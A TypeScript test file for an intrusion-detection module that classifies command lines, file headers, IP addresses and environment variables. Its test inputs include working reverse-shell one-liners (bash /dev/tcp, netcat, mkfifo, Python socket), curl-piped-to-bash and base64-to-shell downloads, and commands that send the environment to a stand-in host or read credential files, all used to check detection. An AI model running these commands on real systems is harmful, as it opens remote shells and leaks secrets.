/** Command lines, first bytes and addresses: what is told from what. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { inNetwork, placeOf } from '../../src/detect/addresses.ts';
import { idiomsOf } from '../../src/detect/idioms.ts';
import { accessKeysIn, magicOf } from '../../src/detect/magic.ts';
import { watchedIn, watchedOf } from '../../src/detect/variables.ts';

describe('command lines', () => {
  for (const [text, name] of [
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'dev-tcp'],
    ['nc -e /bin/sh 10.0.0.1 4444', 'netcat-exec'],
    ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1 >/tmp/f', 'fifo-shell'],
    [
      'python3 -c import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
      'socket-one-liner',
    ],
    ['curl -fsSL https://x.example/i.sh | bash', 'download-run'],
    ['wget -q http://x/a -O /tmp/a && chmod +x /tmp/a', 'download-stage'],
    ['echo aGk= | base64 -d | sh', 'decode-run'],
    ['cat /proc/self/environ', 'environ-read'],
    ['env | curl -d @- http://x', 'environ-send'],
    ['chmod 755 /tmp/a', 'stage-mark'],
    ['cat /etc/passwd', 'account-files'],
    ['nohup ./a', 'left-behind'],
    ['curl http://$AWS_LAMBDA_RUNTIME_API/2018-06-01/runtime/invocation/next', 'runtime-api'],
    ['sh -c whoami', 'survey'],
  ] as const) {
    test(`${name}: ${text}`, () => assert.ok(idiomsOf(text).some((idiom) => idiom.name === name)));
  }

  for (const text of [
    'git rev-parse HEAD',
    'ffmpeg -i /tmp/in.mp4 -f mp3 /tmp/out.mp3',
    'ls -la /tmp',
    'node /var/task/worker.mjs',
    'convert a.png b.png',
    'pdftotext /tmp/x.pdf -',
    'tar -czf /tmp/a.tgz /tmp/a',
    'sh -c grep -c x /tmp/log; cat /tmp/log',
  ]) {
    test(`none: ${text}`, () => assert.deepEqual(idiomsOf(text), []));
  }

  test('the worst text that an attacker can write takes no time to speak of', () => {
    const cpu = process.cpuUsage();
    for (const piece of [
      'curl /tmp/',
      'nc -e',
      'wget ',
      'mkfifo ',
      'base64 -d ',
      'chmod 7777',
      'socket dup2 ',
      'env | ',
    ])
      idiomsOf(piece.repeat(4000));
    // Eight texts; a quadratic expression would take minutes.
    assert.ok(process.cpuUsage(cpu).user < 2e6);
  });
});

describe('first bytes', () => {
  for (const [bytes, magic] of [
    ['\x7fELF\x02\x01', 'elf'],
    ['#!/bin/sh\n', 'script'],
    ['PK\x03\x04', 'archive'],
    ['\x1f\x8b\x08', 'archive'],
    ['hello\n', 'text'],
    ['\0\x01\x02', 'data'],
    ['', 'empty'],
    [`${'n'.repeat(100)}${'\0'.repeat(157)}ustar\0`, 'archive'],
  ] as const) {
    test(`${magic}: ${JSON.stringify(bytes.slice(0, 12))}`, () =>
      assert.equal(magicOf(Buffer.from(bytes, 'latin1')), magic));
  }

  test('access keys are found, those of the documentation are not', () => {
    const text =
      '[default]\naws_access_key_id = AKIAABCDEFGHIJKLMNOP\n[x]\naws_access_key_id=AKIAIOSFODNN7EXAMPLE\nXAKIAABCDEFGHIJKLMNOP\n';
    assert.deepEqual(accessKeysIn(Buffer.from(text), 'text').accessKeys, ['AKIAABCDEFGHIJKLMNOP']);
    assert.deepEqual(accessKeysIn(Buffer.from(text), 'elf').accessKeys, []);
  });
});

describe('addresses', () => {
  for (const [address, place] of [
    ['127.0.0.1', 'local'],
    ['::1', 'local'],
    ['0.0.0.0', 'local'],
    ['10.1.2.3', 'private'],
    ['169.254.78.1', 'private'],
    ['fd00:ec2::23', 'private'],
    ['172.32.0.1', 'public'],
    ['::ffff:10.0.0.1', 'private'],
    ['52.94.5.1', 'aws'],
    ['3.5.140.2', 'aws'],
    ['2600:1f18::1', 'aws'],
    ['203.0.113.7', 'public'],
    ['1.1.1.1', 'public'],
    ['8.8.8.8', 'public'],
    ['2606:4700:4700::1111', 'public'],
  ] as const) {
    test(`${address} is ${place}`, () => assert.equal(placeOf(address), place));
  }

  test('networks', () => {
    assert.ok(inNetwork('203.0.113.7', '203.0.113.0/24'));
    assert.ok(!inNetwork('203.0.114.7', '203.0.113.0/24'));
    assert.ok(inNetwork('::ffff:203.0.113.7', '203.0.113.7'));
    assert.ok(inNetwork('2001:db8::5', '2001:db8:*'));
    assert.ok(!inNetwork('203.0.113.7', '203.0.113.0/99'));
  });
});

describe('variables', () => {
  test('only watched ones are kept, the first of two counts, and passwords of proxies are left out', () => {
    const environ = Buffer.from(
      'SECRET=x\0LD_PRELOAD=/a\0LD_PRELOAD=/b\0HTTPS_PROXY=http://me:pass@proxy:1\0AWS_SECRET_ACCESS_KEY=y\0__proto__=z\0',
    );
    assert.deepEqual({ ...watchedIn(environ) }, { LD_PRELOAD: '/a', HTTPS_PROXY: 'http://…@proxy:1' });
    assert.deepEqual(
      { ...watchedOf({ SECRET: 'x', NODE_OPTIONS: '-r a', AWS_ENDPOINT_URL_S3: 'http://x' }) },
      { NODE_OPTIONS: '-r a', AWS_ENDPOINT_URL_S3: 'http://x' },
    );
  });
});
